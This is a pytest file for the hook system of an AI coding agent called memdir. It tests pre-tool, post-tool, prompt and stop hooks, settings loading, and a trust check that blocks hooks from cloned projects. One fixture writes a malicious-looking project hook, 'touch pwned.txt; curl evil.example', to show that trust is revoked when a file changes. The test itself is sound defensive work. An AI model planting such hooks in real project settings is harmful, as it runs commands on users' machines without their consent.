"""Hooks: Python callables and shell commands at the four points of a turn."""

from __future__ import annotations

import json
import sys

import pytest

from memdir.agent.hooks import MAX_STOP_CONTINUES, HookResult, Hooks, load_settings
from memdir.service.trust import is_trusted, set_trusted
from memdir.testing import ScriptedProvider, tool_call


def test_python_pre_tool_hook_blocks_the_tool_and_tells_the_model(make_session, project):
    model = ScriptedProvider(tool_call("bash", {"command": "touch made.txt"}), "ok")
    session = make_session(model, mode="off")
    seen: list[dict] = []

    def guard(event: dict) -> HookResult | None:
        seen.append(event)
        return HookResult(block=True, reason="no touching today")

    session.hooks.add("PreToolUse", guard, matcher="Bash")  # matched ignoring case
    session.run("make a file")

    assert not (project / "made.txt").exists()
    assert seen[0]["tool_name"] == "bash"
    assert seen[0]["tool_input"] == {"command": "touch made.txt"}
    assert seen[0]["hook_event_name"] == "PreToolUse"
    result = model.calls[1].messages[-1]["content"][0]
    assert result["is_error"] and "no touching today" in result["content"]
    model.assert_complete()


def test_matcher_limits_tool_hooks(make_session, project):
    model = ScriptedProvider(tool_call("glob", {"pattern": "*"}), "ok")
    session = make_session(model, mode="off")
    calls: list[str] = []
    session.hooks.add("PreToolUse", lambda e: calls.append(e["tool_name"]),
                      matcher="bash|write_file")
    session.run("list")
    assert calls == []


def test_shell_hook_gets_json_on_stdin_and_exit_2_blocks(make_session, project, tmp_path):
    log = tmp_path / "payload.json"
    script = tmp_path / "hook.py"
    script.write_text(
        "import json, sys\n"
        f"open({str(log)!r}, 'w').write(sys.stdin.read())\n"
        "print('rm is not allowed here', file=sys.stderr)\n"
        "sys.exit(2)\n")
    model = ScriptedProvider(tool_call("bash", {"command": "echo hi"}), "ok")
    session = make_session(model, mode="off")
    session.hooks.add_command("PreToolUse", f"{sys.executable} {script}")
    session.run("say hi")

    payload = json.loads(log.read_text())
    assert payload["hook_event_name"] == "PreToolUse"
    assert payload["tool_input"] == {"command": "echo hi"}
    assert payload["cwd"] == str(project.resolve())
    result = model.calls[1].messages[-1]["content"][0]
    assert "rm is not allowed here" in result["content"] and result["is_error"]


def test_shell_hook_other_exit_codes_are_notices_not_blocks(make_session, project):
    model = ScriptedProvider(tool_call("bash", {"command": "echo ran"}), "ok")
    session = make_session(model, mode="off")
    session.hooks.add_command("PreToolUse", "echo broken >&2; exit 1")
    session.run("go")
    assert model.calls[1].messages[-1]["content"][0]["content"].strip() == "ran"


def test_post_tool_hook_feedback_is_appended_to_the_result(make_session):
    model = ScriptedProvider(tool_call("bash", {"command": "echo out"}), "ok")
    session = make_session(model, mode="off")
    session.hooks.add("PostToolUse", lambda e: "lint failed" if "out" in
                      e["tool_response"]["content"] else None)
    session.run("go")
    content = model.calls[1].messages[-1]["content"][0]["content"]
    assert content.startswith("out") and "[PostToolUse hook: lint failed]" in content


def test_user_prompt_submit_can_block_or_add_context(make_session):
    model = ScriptedProvider("answer")
    session = make_session(model, mode="off")
    session.hooks.add("UserPromptSubmit",
                      lambda e: "secrets in prompt" if "password" in e["prompt"] else None)
    session.hooks.add_command("UserPromptSubmit", "echo 'branch: main'")

    blocked = session.run("my password is hunter2")
    assert blocked.stop == "blocked" and "secrets in prompt" in blocked.text
    assert model.calls == [] and session.agent.messages == []

    session.run("what branch?")
    texts = [b["text"] for b in model.calls[0].messages[-1]["content"]]
    assert texts[0] == "what branch?" and "branch: main" in texts[1]
    model.assert_complete()


def test_stop_hook_continues_the_turn_then_lets_it_end(make_session):
    model = ScriptedProvider("first answer", "second answer")
    session = make_session(model, mode="off")
    events: list[bool] = []

    def stop(event: dict) -> HookResult | None:
        events.append(event["stop_hook_active"])
        return None if event["stop_hook_active"] else HookResult(True, "run the tests first")

    session.hooks.add("Stop", stop)
    result = session.run("fix it")
    assert result.text == "second answer" and result.steps == 2
    assert events == [False, True]
    assert "run the tests first" in model.calls[1].messages[-1]["content"][0]["text"]
    model.assert_complete()


def test_a_stop_hook_that_always_blocks_cannot_loop_forever(make_session):
    model = ScriptedProvider(*["again"] * (MAX_STOP_CONTINUES + 1))
    session = make_session(model, mode="off")
    session.hooks.add("Stop", lambda e: True)
    result = session.run("go")
    assert result.steps == MAX_STOP_CONTINUES + 1
    model.assert_complete()


def test_a_python_hook_that_raises_is_reported_and_does_not_block(make_session):
    model = ScriptedProvider(tool_call("bash", {"command": "echo fine"}), "ok")
    session = make_session(model, mode="off")
    session.hooks.add("PreToolUse", lambda e: 1 / 0)
    notices: list[str] = []
    session.agent.events.notice = notices.append  # type: ignore[method-assign]
    session.run("go")
    assert "fine" in model.calls[1].messages[-1]["content"][0]["content"]
    assert any("ZeroDivisionError" in n for n in notices)


def test_settings_file_configures_shell_and_python_hooks(project, isolated_env, make_session,
                                                        tmp_path, monkeypatch):
    (tmp_path / "lib").mkdir()
    (tmp_path / "lib" / "team_hooks.py").write_text(
        "def stop(event):\n"
        "    if not event['stop_hook_active']:\n"
        "        return {'decision': 'block', 'reason': 'run the linter first'}\n")
    monkeypatch.syspath_prepend(str(tmp_path / "lib"))
    (project / ".memdir").mkdir()
    (project / ".memdir" / "settings.json").write_text(json.dumps({"hooks": {
        "PreToolUse": [{"matcher": "bash", "hooks": [
            {"type": "command", "command": "echo 'no bash in this repo' >&2; exit 2"}]}],
        "Stop": [{"hooks": [{"type": "python", "callable": "team_hooks:stop"}]}],
    }}))
    (isolated_env / "settings.json").write_text(json.dumps({"hooks": {
        "UserPromptSubmit": [{"hooks": [{"type": "command", "command": "echo user-level"}]}],
    }}))
    set_trusted(project / ".memdir" / "settings.json", isolated_env)
    model = ScriptedProvider(tool_call("bash", {"command": "ls"}), "done", "linted, done")
    session = make_session(model, mode="off")
    assert [h.event for h in session.hooks.hooks] == ["UserPromptSubmit", "PreToolUse", "Stop"]
    assert session.problems == []
    result = session.run("list files")
    assert "user-level" in model.calls[0].messages[0]["content"][1]["text"]
    assert "no bash in this repo" in model.calls[1].messages[-1]["content"][0]["content"]
    assert "run the linter first" in model.calls[2].messages[-1]["content"][0]["text"]
    assert result.text == "linted, done"
    model.assert_complete()


def _project_hook(project, command="touch pwned.txt"):
    (project / ".memdir").mkdir(exist_ok=True)
    path = project / ".memdir" / "settings.json"
    path.write_text(json.dumps({"hooks": {"UserPromptSubmit": [
        {"hooks": [{"type": "command", "command": command}]}]}}))
    return path


def test_a_cloned_projects_hooks_do_not_run_until_trusted(project, isolated_env, make_session):
    path = _project_hook(project)
    session = make_session(ScriptedProvider("hi"), mode="off")
    assert session.hooks.hooks == []
    assert any("memdir trust" in p and str(path) in p for p in session.problems)
    session.run("hello")
    assert not (project / "pwned.txt").exists()


def test_trust_is_for_the_file_as_it_was(project, isolated_env, make_session):
    path = _project_hook(project)
    set_trusted(path, isolated_env)
    assert is_trusted(path, isolated_env)
    make_session(ScriptedProvider("hi"), mode="off").run("hello")
    assert (project / "pwned.txt").exists()
    (project / "pwned.txt").unlink()
    _project_hook(project, "touch pwned.txt; curl evil.example")  # changed after trust
    assert not is_trusted(path, isolated_env)
    make_session(ScriptedProvider("hi"), mode="off").run("hello")
    assert not (project / "pwned.txt").exists()


@pytest.mark.parametrize("answer", [True, False])
def test_the_repl_asks_before_running_a_projects_hooks(project, isolated_env, make_session,
                                                       answer):
    path = _project_hook(project)
    asked: list[tuple] = []

    def asker(p, hooks):
        asked.append((p, hooks))
        return answer

    session = make_session(ScriptedProvider("hi"), mode="off", trust_asker=asker)
    assert asked == [(path, ["UserPromptSubmit: command touch pwned.txt"])]
    session.run("hello")
    assert (project / "pwned.txt").exists() is answer
    assert is_trusted(path, isolated_env) is answer


@pytest.mark.parametrize("settings, problem", [
    ("{not json", "not valid JSON"),
    ('{"hooks": {"BeforeEverything": []}}', "unknown hook event"),
    ('{"hooks": {"Stop": [{"hooks": [{"type": "python", "callable": "no.such:mod"}]}]}}',
     "cannot be loaded"),
    ('{"hooks": {"Stop": [{"hooks": [{"type": "command"}]}]}}', "needs"),
    ('{"hooks": []}', "must be an object"),
])
def test_bad_settings_are_reported_not_fatal(tmp_path, settings, problem):
    path = tmp_path / "settings.json"
    path.write_text(settings)
    hooks, problems = load_settings([path, tmp_path / "missing.json"])
    assert hooks == [] and len(problems) == 1 and problem in problems[0]


def test_unknown_event_name_in_python_is_an_error():
    with pytest.raises(ValueError):
        Hooks().add("AfterLunch", lambda e: None)


def test_a_shell_hook_gets_the_workspace_but_no_second_name_for_the_project(tmp_path,
                                                                             monkeypatch):
    # MEMDIR_PROJECT_DIR looked like memdir's MEMDIR_PROJECT but meant only "the workspace";
    # a memdir run inside the hook now finds the session's project from its folder.
    monkeypatch.delenv("MEMDIR_PROJECT", raising=False)
    seen = tmp_path / "env.json"
    hooks = Hooks(cwd=tmp_path)
    hooks.add_command("Stop", f"{sys.executable} -c \"import json, os; "
                      f"json.dump(dict(os.environ), open({str(seen)!r}, 'w'))\"")
    hooks.run("Stop", {})
    env = json.loads(seen.read_text())
    assert env["CLAUDE_PROJECT_DIR"] == str(tmp_path)
    assert [name for name in env if name.startswith("MEMDIR_PROJECT")] == []
